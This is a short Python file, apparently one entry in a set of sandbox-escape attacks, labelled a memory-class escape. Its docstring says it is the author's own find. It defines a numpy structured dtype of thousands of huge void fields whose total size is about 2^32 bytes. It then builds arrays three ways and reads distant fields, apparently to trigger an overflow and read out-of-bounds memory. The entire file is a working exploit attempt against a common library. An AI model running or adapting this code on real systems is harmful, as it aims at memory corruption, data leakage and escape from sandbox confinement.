"""Class: memory. Source: own find. Escape: the same, said in a list of thousands of fields, none of which
is large. By function, as the type of rows, and by a conversion."""

import numpy as np

KIND = [(f"f{i}", "V999999") for i in range(4294)] + [("last", "V971654")]
WAYS = [
    lambda: np.zeros(4, KIND),
    lambda: np.zeros(4).astype(KIND),
    lambda: np.zeros(4 * 64, "u1").view(KIND),
]


def attack(model, tokenizer, address):
    for way in WAYS:
        try:
            array = way()
        except Exception:
            continue
        for each in ("f4000", "f2000", "f1000", "f500", "f1"):
            array[each].tobytes()
